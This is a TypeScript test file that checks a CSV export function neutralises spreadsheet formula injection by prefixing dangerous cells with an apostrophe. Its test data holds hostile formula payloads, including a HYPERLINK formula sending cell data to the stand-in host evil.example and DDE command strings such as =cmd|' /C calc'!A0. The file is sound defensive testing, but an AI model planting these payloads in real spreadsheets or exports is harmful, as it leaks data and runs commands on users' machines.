// No cell of an exported CSV is computed by a spreadsheet.
import assert from "node:assert/strict";
import { test } from "node:test";
import { decodeCsvRow, encodeSpreadsheetRow } from "../../src/lib/csv.ts";

const DEFUSED: ReadonlyArray<readonly [string, string]> = [
  ["formula", '=HYPERLINK("http://evil.example/?"&A1,"Open")'],
  ["command", "=cmd|' /C calc'!A0"],
  ["plus", "+1+cmd|' /C calc'!A0"],
  ["minus", "-2+3+cmd|' /C calc'!A0"],
  ["at", "@SUM(1+9)*cmd|' /C calc'!A0"],
  ["blank in front", "  =1+1"],
  ["quote in front", '"=1+1'],
  ["byte order mark in front", "\ufeff=1+1"],
  ["zero width space in front", "\u200b@SUM(1)"],
  ["full-width equals", "＝1+1"],
  ["full-width plus", "＋1+1"],
  ["full-width minus", "－1+1"],
  ["full-width at", "＠SUM(1)"],
  ["a lone minus", "-"],
  ["a name with a hyphen in front", "-draft.docx"],
  ["a number followed by more", "-1;2"],
];

for (const [name, cell] of DEFUSED) {
  test(`a cell that would be computed becomes text: ${name}`, () => {
    assert.deepEqual(decodeCsvRow(encodeSpreadsheetRow(["before", cell, "after"])), ["before", `'${cell}`, "after"]);
  });
}

const INSIDE: ReadonlyArray<readonly [string, string]> = [
  ["Notes;=cmd|' /C calc'!A0", "Notes;'=cmd|' /C calc'!A0"],
  ["Notes; @SUM(1)", "Notes; '@SUM(1)"],
  ["Notes\t=1+1;-2", "Notes\t'=1+1;'-2"],
  [";＝1+1", ";'＝1+1"],
  ["=1;=2", "'=1;'=2"],
  ["\t=1+1", "'\t'=1+1"],
  ["\t\t -2+3", "'\t\t '-2+3"],
  ["\r=1+1", "'\r'=1+1"],
  ["\n=1+1", "'\n'=1+1"],
  ["a\n@SUM(1)\tb", "a\n'@SUM(1)\tb"],
];

for (const [cell, shown] of INSIDE) {
  test(`so does what a spreadsheet with other separators would take for a cell: ${JSON.stringify(cell)}`, () => {
    assert.deepEqual(decodeCsvRow(encodeSpreadsheetRow([cell])), [shown]);
  });
}

const UNTOUCHED = [
  "",
  "0",
  "-12",
  "+3.5",
  "1e6",
  "-.5",
  "2026-01-01 10:00:00",
  "Budget = plan.xlsx",
  "a@b.example",
  "it's",
  "'quoted",
  " text",
  `a${"\t".repeat(300_000)}`,
];

for (const cell of UNTOUCHED) {
  test(`a cell that is only text or a number stays as it is: '${cell.slice(0, 40)}'`, () => {
    assert.deepEqual(decodeCsvRow(encodeSpreadsheetRow([cell, "x"])), [cell, "x"]);
  });
}

test("a cell cannot break out of its record", () => {
  assert.equal(encodeSpreadsheetRow(['a"\r\n=1+1', "b,=2"]), `"a""\r\n'=1+1","b,=2"`);
});

test("no cell of the record is computed, whatever a spreadsheet takes for the end of a cell", () => {
  const ends = ["", "\t", ";", "\n", "\r\n", "\t\t", " \t", "x\t", "x;\t", '"\t', "x\n"];
  for (const end of ends) {
    for (const formula of ["=1+1", "+1+1", "-1+1", "@SUM(1)", "＝1+1"]) {
      const row = encodeSpreadsheetRow(["before", `${end}${formula}${end}${formula}`, "after"]);
      for (const separator of [/[\t\r\n]/, /[;\r\n]/, /[\t;\r\n]/]) {
        for (const cell of row.split(separator)) assert.doesNotMatch(cell.replace(/^[\s"]+/, ""), /^[=+\-@＝]/, row);
      }
    }
  }
});
